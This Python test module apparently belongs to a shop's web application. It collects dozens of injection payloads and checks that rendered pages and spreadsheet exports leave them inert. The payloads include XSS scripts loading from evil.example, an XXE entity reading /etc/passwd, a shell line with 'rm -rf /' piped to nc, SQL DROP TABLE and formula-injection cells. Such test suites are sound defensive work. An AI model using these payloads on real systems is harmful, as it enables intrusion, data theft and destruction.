"""What a customer could write to harm whoever reads it, and how a page is judged: poison must change no element, no attribute and no
code of it. Harmless text of the same shape makes the page that it is compared with.
"""

import re
from html.parser import HTMLParser

#: what → text; each is another way in
CLASSES: dict[str, str] = {
    # markup
    "script element": "<script>alert(1)</script>",
    "script from elsewhere": "<script src=//evil.example/x.js></script>",
    "script with odd case and a slash": "<ScRiPt/x>alert(1)</sCrIpT/x>",
    "script inside a script": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "image that fails": '"><img src=x onerror=alert(1)>',
    "image without an end": '<img src="x" onerror="alert(1)"',
    "vector graphics": "'><svg/onload=alert(1)>",
    "formula markup": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "frame": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "object": '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
    "base address": "<base href=//evil.example/>",
    "refresh": '<meta http-equiv=refresh content="0;url=//evil.example/">',
    "form of one's own": '<form action=//evil.example/><button formaction="javascript:alert(1)">OK',
    "end of a text field": "</textarea><script>alert(1)</script>",
    "end of a title": "</title><img src=x onerror=alert(1)>",
    "end of a comment": "--><script>alert(1)</script><!--",
    "end of a script": "</script><script>alert(1)</script>",
    "end of a pre and a bdi": "</pre></bdi></td></tr></table><h1>owned</h1>",
    "character data": "<![CDATA[<script>alert(1)</script>]]>",
    "entities of XML": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
    "entities written out": "&lt;script&gt;alert(1)&lt;/script&gt;&#60;img src=x onerror=alert(1)&#62;",
    "dialog of the page's own kind": '<a data-dialog href="//evil.example/">OK</a><dialog open>',
    "unclosed quote that swallows a token": "<img src='//evil.example/?",
    # attributes
    "handler in double quotes": '" onmouseover="alert(1)" autofocus onfocus="alert(1)" x="',
    "handler in single quotes": "' onmouseover='alert(1)' x='",
    "handler without quotes": "x onmouseover=alert(1) style=animation-name:x onanimationstart=alert(1)",
    "handler in backquotes": "`` onmouseover=alert(1)",
    "Alpine and htmx": '" x-data x-init="alert(1)" @click="alert(1)" :class="alert(1)" hx-get="//evil.example/" hx-trigger="load" x="',
    # addresses
    "script address": "javascript:alert(1)",
    "script address, split": "java\nscript:alert(1)",
    "script address, as entities": "&#106;avascript&colon;alert(1)",
    "data address": "data:text/html,<script>alert(1)</script>",
    "address without a scheme": "//evil.example/x",
    "address that looks like another": "https://coupang.com@evil.example/",
    "address of letters that look alike": "https://c\u043eupang.com/ https://xn--cupang-hye.com/",
    # templates, styles, scripts in text
    "template of Django": "{{ 7|add:7 }}{% debug %}{% csrf_token %}{{ request.user.password }}",
    "template of others": "${7*7}#{7*7}<%= 7*7 %>{{constructor.constructor('alert(1)')()}}[[7*7]]",
    "format string": "{0.__class__.__init__.__globals__} %(password)s %s %n %x",
    "style": "</style><style>*{background:url(//evil.example/)}</style>",
    "style in an attribute": '" style="position:fixed;inset:0;background:url(//evil.example/)"',
    "JavaScript string": "'-alert(1)-'\\';alert(1)//`${alert(1)}`\u2028\u2029",
    "JSON": '","role":"owner","__proto__":{"x":1},"a":"',
    # text that other programs read
    "SQL": "'; DROP TABLE workflow_order; -- ' OR 1=1 #",
    "formula": '=HYPERLINK("http://evil.example/?"&A1,"OK")',
    "formula that starts a program": "=cmd|'/C calc'!A0",
    "formula behind a sign": "+1+1 @SUM(1+1) -1+1",
    "formula in full width": "\uff1d1+1\uff0b\uff0d\uff20",
    "header": "x\r\nBcc: everybody@evil.example\r\nSubject: owned\r\n\r\n<script>alert(1)</script>",
    "line of a log": "x\n2026-01-01 00:00:00 INFO core.access POST /admin/ 200 owner signed in \x1b[2J\x1b]0;owned\x07",
    "line of an event stream": "x\n\nevent: order.state\ndata: {}\n\nretry: 0\n",
    "Markdown": "[OK](javascript:alert(1)) ![x](//evil.example/x.png) <!-- --> ```",
    "command of a shell": "$(touch /tmp/owned) `id` ; rm -rf / | nc evil.example 1 &",
    "path": "../../../../etc/passwd\x00.png %2e%2e%2f ..\\..\\",
    # letters
    "bidirectional override": "\u202egnp.exe\u202c \u2066\u2067\u2068",
    "right to left": "\u0645\u0631\u062d\u0628\u0627 \u05e9\u05dc\u05d5\u05dd <b>",
    "not seen": "a\u200bd\u200cm\u200di\u2060n\ufeff \u00ad\u180e <i>",
    "control characters": "<\x00script>alert(1)</\x08script>\x0b\x0c\x1a\x7f\x85",
    "picture of a control character": "\u2400\u241b\ufffd\ufffe",
    "letter that never ends": "Z" + "\u0351\u0352\u0353\u0354\u0355\u0356\u0357\u0358" * 12 + "<u>",
    "emoji of many parts": "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466\U0001f3f4\U000e0067\U000e0062\U000e007f\ufe0f<s>",
    "brackets of other widths": "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e \u2039img src=x\u203a",
    "word that never ends": "W" * 60 + "\ufdfa<tt>",
    "other spellings of a quote": "\u02ba\u2033\uff02 onmouseover=alert(1) \u02b9\u2032\uff07",
}
POISON = tuple(CLASSES.values())
ALL = " ".join(POISON)


def packed(most: int) -> list[str]:
    """All of them in texts of at most this length: as many side by side as fit, the longer ones cut."""
    texts = [""]
    for one in POISON:
        both = f"{texts[-1]} {one}".strip(" ")
        if len(both) > most and texts[-1]:
            texts.append(one[:most])
        else:
            texts[-1] = both[:most]
    return texts


def harmless(text: str) -> str:
    """Text of the same shape: its spaces, line breaks and controls as they are, every sign a letter of its width."""
    return "".join(_letter(sign) for sign in text)


def _letter(sign: str) -> str:
    from core.notices.rendering import width

    if not sign.isprintable() or sign.isspace():
        return sign
    return "\uac00" if width(sign) == 2 else "a"


# --- Judging a page -------------------------------------------------------------------------------------------------------

#: attributes whose value is an address that a browser may follow or load
ADDRESSES = {"href", "src", "action", "formaction", "srcset", "poster", "data", "cite", "ping", "background", "xlink:href"}
#: attributes whose value is code for the page's own scripts
CODE = re.compile(r"^(on|x-|@|:|hx-|v-|style$|srcdoc$|data-stream$|sandbox$)")
TOKEN = re.compile(r"[A-Za-z0-9]{64}")


class Skeleton(HTMLParser):
    """What of a page is no text: its elements with the names of their attributes, the code in it, and the addresses it leads to."""

    def __init__(self, page: str) -> None:
        super().__init__(convert_charrefs=True)
        self.bones: list[tuple[str, ...]] = []
        self.addresses: list[tuple[str, str, str]] = []
        self._raw = ""
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        code = (f"{name}={TOKEN.sub('', value or '')}" for name, value in attrs if CODE.match(name))
        self.bones.append((tag, *sorted(name for name, _value in attrs), *sorted(code)))
        self.addresses += [(tag, name, value or "") for name, value in attrs if name in ADDRESSES]
        self._raw = tag if tag in ("script", "style") else ""

    def handle_endtag(self, tag: str) -> None:
        self.bones.append((f"/{tag}",))
        self._raw = ""

    def handle_data(self, data: str) -> None:
        if self._raw:
            self.bones.append((f"{self._raw}:", data))

    def handle_comment(self, data: str) -> None:
        self.bones.append(("comment",))

    def handle_decl(self, decl: str) -> None:
        self.bones.append(("declaration", decl))

    def unknown_decl(self, data: str) -> None:
        self.bones.append(("declaration", data[:10]))

    def handle_pi(self, data: str) -> None:
        self.bones.append(("instruction",))


def assert_same_skeleton(poisoned: str, clean: str, *, where: str) -> None:
    """Poison made no element, no attribute and no code, and leads nowhere but to the web and to our own pages."""
    found, wanted = Skeleton(poisoned), Skeleton(clean)
    for number, (one, other) in enumerate(zip(found.bones, wanted.bones, strict=False)):
        assert one == other, (where, number, found.bones[max(0, number - 3) : number + 3], wanted.bones[max(0, number - 3) : number + 3])
    assert len(found.bones) == len(wanted.bones), where
    for tag, name, address in set(found.addresses) - set(wanted.addresses):
        assert re.match(r"(https?://|/(?!/)|[?#]|$)", address), (where, tag, name, address)


# --- Judging a table ------------------------------------------------------------------------------------------------------

#: what makes a formula of a cell in one spreadsheet or another
FORMULA = tuple("=+-@\t\r|\uff1d\uff0b\uff0d\uff20\uff5c")
PLAIN_NUMBER = re.compile(r"[-+]?[0-9][0-9,]*(\.[0-9]+)?%?")


def assert_inert_table(rows) -> None:
    """No cell of an export starts a formula: such text has an apostrophe before it. Numbers may have their sign."""
    for number, row in enumerate(rows, start=1):
        for cell in row:
            if isinstance(cell, str) and cell.startswith(FORMULA):
                assert PLAIN_NUMBER.fullmatch(cell), (number, cell)
